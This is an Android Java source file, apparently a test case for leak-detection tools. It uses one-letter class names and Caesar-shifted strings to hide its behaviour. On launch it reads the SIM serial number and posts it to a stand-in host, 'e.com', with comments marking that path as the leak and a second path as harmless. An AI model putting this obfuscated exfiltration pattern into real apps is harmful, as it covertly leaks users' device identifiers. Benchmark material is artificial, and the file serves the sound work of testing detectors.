package olden;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.*;

import java.io.*;
import java.net.*;
import java.util.*;

/** Classes of one letter, overloads by type, names decoded. */
public class OneLetter extends Activity {
    interface b {
        String a(Context c);

        boolean a();
    }

    static class c implements b {
        public String a(Context x) {
            return a.a((TelephonyManager) x.getSystemService(a.a("qipof", 1)));
        }

        public boolean a() {
            return true;
        }
    }

    static class d implements b {
        public String a(Context x) {
            return a.a("wfs", 1);
        }

        public boolean a() {
            return false;
        }
    }

    static class a {
        static String a(String s, int k) {
            char[] c = s.toCharArray();
            for (int i = 0; i < c.length; i++) c[i] = (char) (c[i] - k);
            return new String(c);
        }

        static String a(TelephonyManager t) {
            return t.getSimSerialNumber();
        }

        static void a(b x, Context c) {
            new e(x.a(c)).start();
        }

        static void b(b x, Context c) {
            new f(x.a(c)).start();
        }
    }

    static class e extends Thread {
        private final String a;

        e(String s) {
            a = s;
        }

        public void run() {
            try {
                HttpURLConnection u =
                        (HttpURLConnection)
                                new URL(OneLetter.a.a("iuuq;00f/dpn", 1)).openConnection();
                u.getOutputStream().write(a.getBytes()); // leak
            } catch (IOException x) {
            }
        }
    }

    static class f extends Thread {
        private final String a;

        f(String s) {
            a = s;
        }

        public void run() {
            try {
                HttpURLConnection u =
                        (HttpURLConnection)
                                new URL(OneLetter.a.a("iuuq;00f/dpn", 1)).openConnection();
                u.getOutputStream().write(a.getBytes()); // no leak
            } catch (IOException x) {
            }
        }
    }

    protected void onCreate(Bundle x) {
        super.onCreate(x);
        a.a(new c(), this);
        a.b(new d(), this);
    }
}
